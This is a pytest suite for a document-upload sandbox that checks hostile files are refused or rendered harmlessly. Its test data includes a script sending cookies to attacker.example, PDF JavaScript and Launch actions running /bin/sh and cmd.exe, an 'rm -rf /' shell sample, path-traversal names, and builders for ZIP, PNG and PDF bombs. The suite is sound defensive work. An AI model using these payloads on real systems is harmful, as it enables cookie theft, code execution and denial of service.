"""Hostile documents: refused, or shown harmlessly, within bounds of memory and time."""

import io
import secrets
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import pytest

from api.sandbox import process
from api.sandbox.failures import Failure, FailureError
from ledger.vault.documents.media_types import media_type
from ledger.vault.documents.refused_types import RefusedTypeError
from ledger.vocabulary.documents import CaseDocument, shown_document
from ledger.vocabulary.picklists import DocumentKind
from tests.support import unlocked
from tests.support.papers import DOCX, DOCX_TYPES, ODT, docx, odt
from tests.support.pictures import HEIC, drawn, encoded, photographs, scan

PICTURES = photographs()
SCRIPT = b"<html><script>fetch('http://attacker.example/'+document.cookie)</script></html>"
pytestmark = pytest.mark.process
_SECONDS = 20.0
"""Each is done within so many seconds, on a machine that does other things too."""


def told(content: bytes) -> str | None:
    """The media type of a content; ``None`` if it is refused."""
    try:
        return media_type(len(content), lambda at, length: content[at : at + length])
    except RefusedTypeError:
        return None


def outcome(ask: Callable[[], Any]) -> Any:
    """The result of a function, or the failure that it raises."""
    try:
        return ask()
    except FailureError as failed:
        return failed.failure


def jar(comment: bytes = b"") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe")
        archive.comment = comment
    return file.getvalue()


def zipped(names: Mapping[str, bytes], **options: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(zipfile.ZipInfo(name), content, **options)
    return file.getvalue()


def docx_with(name: str, content: bytes = b"x") -> bytes:
    return docx(**{name: content.decode("latin-1")})


def overlapping() -> bytes:
    """A DOCX whose parts are all the same bytes: the directory names one place many times."""
    content = bytearray(docx(**{f"word/{n}.xml": "x" for n in range(3)}))
    place = content.index(b"PK\x01\x02")
    at, offsets = place, []
    while content[at : at + 4] == b"PK\x01\x02":
        offsets.append(at + 42)
        at += 46 + sum(struct.unpack_from("<3H", content, at + 28))
    content[offsets[-1] : offsets[-1] + 4] = content[offsets[-2] : offsets[-2] + 4]
    return bytes(content)


def claiming(unpacked: int) -> bytes:
    """A DOCX whose last part claims to unpack to so many bytes."""
    content = bytearray(docx())
    last = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, last + 24, unpacked)
    return bytes(content)


REFUSED = {
    "a PDF with a page before it": SCRIPT + scan(),
    "a PDF with a ZIP before it": jar() + scan(),
    "a PDF that is a JAR": scan() + jar(),
    "a PDF that is a JAR with a comment": scan() + jar(b"c" * 5000),
    "a PDF that is a JAR with bytes after it": scan() + jar() + b"\n\n",
    "a PNG that is a ZIP": PICTURES["image/png"] + zipped({"a": b"b"}),
    "a JPEG that is a JAR": PICTURES["image/jpeg"] + jar(),
    "a TIFF that is a JAR": PICTURES["image/tiff"] + jar(),
    "a HEIC that is a JAR": HEIC + jar(),
    "a GIF that is a JAR": encoded(drawn(), "GIF") + jar(),
    "a JPEG that is a PDF": encoded(drawn(), "JPEG", comment=b"%PDF-1.4\n1 0 obj<<>>endobj"),
    "an SVG with a script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>",
    "an SVG with a declaration": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "a page": SCRIPT,
    "PostScript": b"%!PS-Adobe-3.0\n(%stdin) (r) file",
    "a program": b"MZ\x90\x00" + bytes(100),
    "a program of Linux": b"\x7fELF" + bytes(100),
    "a script of a shell": b"#!/bin/sh\nrm -rf /\n",
    "an old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rich text": b"{\\rtf1{\\object\\objdata}}",
    "a WebP": encoded(drawn(), "WEBP"),
    "a JAR": jar(),
    "a DOCX that is a JAR": docx_with("META-INF/MANIFEST.MF"),
    "a DOCX with a class": docx_with("word/Evil.class"),
    "a DOCX with a program": docx_with("word/media/run.EXE"),
    "a DOCX with macros": docx_with("word/vbaProject.bin"),
    "a DOCX with macros in capitals": docx_with("WORD/VBAPROJECT.BIN"),
    "a DOCX with ActiveX": docx_with("word/activeX/activeX1.xml"),
    "a DOCM with another name": docx(DOCX_TYPES.replace("document.main", "document.macroEnabled")),
    "a DOCM by the types": docx(DOCX_TYPES + "<!-- macroEnabled -->"),
    "a DOCM with hidden types": docx(DOCX_TYPES.replace("/></Types>", "/>&#109;</Types>")),
    "a DOCX with types in UTF-16": docx(DOCX_TYPES + "\x00"),
    "a DOCX with too many types": docx(DOCX_TYPES + " " * 300_000),
    "a DOCX with a path out of it": docx_with("../../evil.xml"),
    "a DOCX with a path from the root": docx_with("/etc/cron.d/evil"),
    "a DOCX with a drive": docx_with("C:evil.xml"),
    "a DOCX with a turned name": docx_with("word/\u202elmx.exe".encode().decode("latin-1")),
    "a DOCX with bytes before it": b"PK\x03\x04" + docx(),
    "a DOCX with bytes after it": docx() + SCRIPT,
    "a DOCX with a page before it": SCRIPT + docx(),
    "a DOCX that was cut": docx()[:-30],
    "a DOCX whose parts overlap": overlapping(),
    "a DOCX that claims four gigabytes": claiming(2**32 - 2),
    "an ODT with macros": zipped({"mimetype": ODT.encode(),
                                  "Basic/Standard/Module1.xml": b"x"}, compress_type=0),
    "an ODT with Python": zipped({"mimetype": ODT.encode(),
                                  "Scripts/python/evil.py": b"x"}, compress_type=0),
    "a ZIP bomb": zipped({f"{n}.txt": bytes(10_000_000) for n in range(2)}),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_of_another_type_or_of_two_is_refused(name: str) -> None:
    assert told(REFUSED[name]) is None


def test_a_directory_that_names_a_part_twice_is_refused() -> None:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<other/>")
    assert told(file.getvalue()) is None


def test_honest_files_are_accepted() -> None:
    accepted = {**PICTURES, "application/pdf": scan()}
    assert {kind: told(content) for kind, content in accepted.items()} == {
        kind: kind for kind in accepted
    }
    pictures = {f"word/media/image{n}.png": "x" * 1000 for n in range(50)}
    assert told(docx(**pictures, **{"docProps/core.xml": "<a/>"})) is not None
    assert told(odt()) is not None
    assert told(zipped({"mimetype": ODT.encode(), "Basics.xml": b"x"}, compress_type=0)) == ODT
    assert told(docx_with("word/embeddings/table.xlsx")) == DOCX
    # A photograph in motion has a film after the picture.
    film = struct.pack(">I", 100_008) + b"mdat" + secrets.token_bytes(100_000)
    assert told(PICTURES["image/jpeg"] + film) == "image/jpeg"


def bomb_png(width: int, height: int) -> bytes:
    """A PNG of few bytes that claims a size, and has the pixels for it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    packing = zlib.compressobj(9)
    row = bytes(width // 8 + 1)
    rows = b"".join(packing.compress(row * 1000) for _ in range(height // 1000))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", rows + packing.flush())
        + chunk(b"IEND", b"")
    )


def pdf_of(content: bytes, more: bytes = b"", box: bytes = b"0 0 300 300") -> bytes:
    """A PDF with one page whose content is a stream."""
    packed = zlib.compress(content, 9)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R " + more + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R"
        b"/Resources<</XObject<</F 5 0 R>>>>>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream",
        b"<</Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</F 5 0 R>>>>"
        b"/Length 10>>stream\n/F Do /F D\nendstream",
    ]
    made, places = b"%PDF-1.7\n", list[int]()
    for number, part in enumerate(parts, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        made + b"xref\n0 6\n0000000000 65535 f \n" + table
        + b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(made)
    )  # fmt: skip


JAVASCRIPT = (
    b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://attacker.example'\\))>>"
    b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(true\\);)>>]>>>>"
)
LAUNCH = b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
BOMBS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "a PNG of 400 million pixels": ("image/png", lambda: bomb_png(20_000, 20_000)),
    "a PNG that claims more than there are": ("image/png", lambda: bomb_png(2**31 - 1, 0)),
    "a PDF whose page unpacks to 120 MB": (
        "application/pdf", lambda: pdf_of(b"0 0 m " * 20_000_000)),
    "a PDF that fills its page for ever": (
        "application/pdf", lambda: pdf_of(b"0 0 300 300 re f\n" * 2_000_000)),
    "a PDF with a page of ten million metres": (
        "application/pdf", lambda: pdf_of(b"", box=b"0 0 1 99999999999")),
    "a PDF that has itself in it": ("application/pdf", lambda: pdf_of(b"/F Do " * 1000)),
    "a TIFF whose directories go round": (
        "image/tiff", lambda: b"II\x2a\x00\x08\x00\x00\x00" + b"\x00\x00" + b"\x08\x00\x00\x00"),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_takes_no_more_than_its_bounds(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(process, "SECONDS", 1.5)
    kind, made_of = BOMBS[name]
    content = made_of()
    assert len(content) < 2_000_000
    begins = time.monotonic()
    made = outcome(lambda: process.picture([content], kind, 1))
    assert made in (Failure.TOO_LARGE, Failure.DAMAGED) or len(made.rgb) <= 3 * 2000 * 2000
    assert time.monotonic() - begins < _SECONDS


def test_scripts_and_programs_in_a_pdf_do_nothing() -> None:
    for more in (JAVASCRIPT, LAUNCH):
        content = pdf_of(b"1 0 0 rg 0 0 300 300 re f", more)
        assert told(content) == "application/pdf"
        made = process.picture([content], "application/pdf", 1)
        assert made.rgb[:3] == b"\xff\x00\x00"
    assert unlocked.metadata(pdf_of(b"", JAVASCRIPT), "application/pdf").other == ("scripts",)


@pytest.mark.parametrize("kind", PICTURES)
def test_a_cut_picture_is_refused_or_shown_in_part(kind: str) -> None:
    content = PICTURES[kind]
    for ask in (
        lambda cut: process.picture([cut], kind, 1).rgb,
        lambda cut: process.without_metadata([cut], kind).__enter__(),
    ):
        made = outcome(partial(ask, content[: len(content) * 2 // 3]))
        assert made is Failure.DAMAGED or not isinstance(made, Failure)


def test_a_picture_that_hides_a_page_is_shown_as_a_picture() -> None:
    hidden = PICTURES["image/png"] + SCRIPT
    assert told(hidden) == "image/png"
    made = unlocked.picture(hidden, "image/png")
    assert made == unlocked.picture(PICTURES["image/png"], "image/png")
    assert SCRIPT not in unlocked.cleaned(hidden, "image/png")


def test_a_content_is_given_to_the_reader_of_its_own_type_alone() -> None:
    """A PNG that is really PostScript or GIF reaches no other reader of Pillow."""
    for content in (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", encoded(drawn(), "GIF")):
        with pytest.raises(FailureError):
            unlocked.picture(content, "image/png")


@pytest.mark.parametrize(
    "title",
    ["report\u202efdp.exe", "a\x00b", "a\nb", "\u2066a", "a\u200fb", "\ufeffa", "a\x1b[2Jb"],
)
def test_a_title_that_is_read_otherwise_than_it_is_is_refused(title: str) -> None:
    described = {
        "sha256": "0" * 64,
        "size": 1,
        "media_type": "application/pdf",
        "document_kind": DocumentKind.REPORT,
    }
    with pytest.raises(ValueError, match="title"):
        CaseDocument.model_validate({**described, "title": title})
    # A path is a text like any other: no file is ever named by a title.
    assert CaseDocument.model_validate({**described, "title": "../../etc/passwd"})


@pytest.mark.parametrize(
    "title", ["report\u202efdp.exe", "a\nb", "\u2066a", "a\x1b[2Jb", "\u3164", "\u202e" * 200]
)
def test_a_title_that_another_node_did_not_refuse_is_shown_with_what_is_hidden(title: str) -> None:
    described = {
        "sha256": "0" * 64,
        "size": 1,
        "media_type": "application/pdf",
        "document_kind": DocumentKind.REPORT,
        "title": title,
    }
    shown = shown_document(described)
    assert shown.title.isprintable()
    assert "[U+" in shown.title
    # Whoever reads the list judges it as any other.
    assert CaseDocument.model_validate(shown.model_dump()) == shown
    for honest in ("Një vendim — копија", "میخواهم"):
        assert shown_document({**described, "title": honest}).title == honest


def test_random_changes_of_a_picture_end_within_bounds() -> None:
    """Not one of many damaged pictures is more than a failure of its own process."""
    for kind, content in PICTURES.items():
        changed = bytearray(content)
        for at in range(30, len(changed), 97):
            changed[at] ^= 0xA5
        made = outcome(partial(process.picture, [bytes(changed)], kind, 1))
        assert made in (Failure.DAMAGED, Failure.TOO_LARGE) or not isinstance(made, Failure)
